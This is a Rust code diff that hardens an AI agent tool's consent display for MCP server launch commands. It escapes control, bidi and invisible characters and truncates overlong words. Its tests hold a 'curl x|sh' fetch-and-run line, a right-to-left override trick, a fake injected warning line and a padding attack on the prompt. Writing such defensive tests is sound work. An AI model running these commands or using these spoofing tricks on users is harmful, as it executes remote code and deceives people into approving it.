@@ -219,15 +219,18 @@ impl TrustStore {
 pub fn describe_launch(source: &McpSource) -> String {
     if let Some(url) = &source.url {
         // The headers too: a `${VAR}` in one sends that variable of yours.
+        // Line breaks escaped too: a consent message must not have lines
+        // its author wrote.
+        let shown = |text: &str| agents_core::text::shorten(text, MAX_WORD).into_owned();
         let headers: Vec<String> = source
             .headers
             .iter()
-            .map(|(name, value)| format!("{name}: {value}"))
+            .map(|(name, value)| format!("{}: {}", shown(name), shown(value)))
             .collect();
         return if headers.is_empty() {
-            url.clone()
+            shown(url)
         } else {
-            format!("{url} with headers {}", headers.join(", "))
+            format!("{} with headers {}", shown(url), headers.join(", "))
         };
     }
     let Some(command) = &source.command else {
@@ -235,6 +238,9 @@ pub fn describe_launch(source: &McpSource) -> String {
     };
     // As a shell line: the directory, the environment (values as written,
     // so `${VAR}` shows which of your variables it receives), the command.
+    // Each word is cut to `MAX_WORD` bytes, so one long value cannot push
+    // the command out of a message that shows the line's two ends.
+    let quote = |word: &str| agents_core::text::shorten(&quote(word), MAX_WORD).into_owned();
     let mut words = Vec::new();
     if let Some(cwd) = &source.cwd {
         words.push(format!("cd {} &&", quote(cwd)));
@@ -253,13 +259,38 @@ pub fn describe_launch(source: &McpSource) -> String {
     words.join(" ")
 }
 
+/// The most of one word of a launch line shown, in bytes.
+const MAX_WORD: usize = 256;
+
+/// `word` as one shell word. A word with a line break, another control
+/// character or a bidi/invisible one ([`agents_core::text::is_hidden`]) is
+/// written in bash's `$'…'` form with those characters escaped, so the
+/// line shows every character it runs and no more lines than one.
 fn quote(word: &str) -> String {
+    use std::fmt::Write as _;
     if !word.is_empty()
         && word
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c))
     {
         word.to_owned()
+    } else if word.chars().any(agents_core::text::is_hidden) {
+        let mut out = String::from("$'");
+        for c in word.chars() {
+            match c {
+                '\n' => out.push_str("\\n"),
+                '\r' => out.push_str("\\r"),
+                '\t' => out.push_str("\\t"),
+                '\\' => out.push_str("\\\\"),
+                '\'' => out.push_str("\\'"),
+                c if agents_core::text::is_hidden(c) => {
+                    let _ = write!(out, "\\u{:04x}", u32::from(c));
+                }
+                c => out.push(c),
+            }
+        }
+        out.push('\'');
+        out
     } else {
         format!("'{}'", word.replace('\'', r"'\''"))
     }
@@ -353,6 +384,40 @@ mod tests {
             args: vec!["-c".into(), "echo hi".into()],
             ..McpSource::default()
         }
+    }
+
+    #[test]
+    fn a_launch_line_shows_every_character_on_one_line() {
+        let mut spoof = source("fmt", "/bin/sh");
+        spoof.args = vec![
+            "-c".into(),
+            "curl x|sh \u{202e}#\u{202c} safe".into(),
+            "\nwarning: ignore the line above\u{1b}[2K\r it's".into(),
+        ];
+        assert_eq!(
+            describe_launch(&spoof),
+            r"/bin/sh -c $'curl x|sh \u202e#\u202c safe' $'\nwarning: ignore the line above\u001b[2K\r it\'s'"
+        );
+        let mut http = McpSource {
+            server: "web".into(),
+            url: Some("https://h/\nwarning: x".into()),
+            ..McpSource::default()
+        };
+        http.headers.insert("X-A".into(), "v\u{202e}\n".into());
+        assert_eq!(
+            describe_launch(&http),
+            r"https://h/\nwarning: x with headers X-A: v\u{202e}\n"
+        );
+    }
+
+    #[test]
+    fn no_one_word_hides_the_rest_of_a_launch_line() {
+        let mut long = source("x", "/bin/sh");
+        long.env.insert("PAD".into(), "v".repeat(100_000));
+        let line = describe_launch(&long);
+        assert!(line.len() < 600, "{}", line.len());
+        assert!(line.ends_with("/bin/sh -c 'echo hi'"), "{line}");
+        assert!(line.contains("(100004 bytes in all)"), "{line}");
     }
 
     #[test]
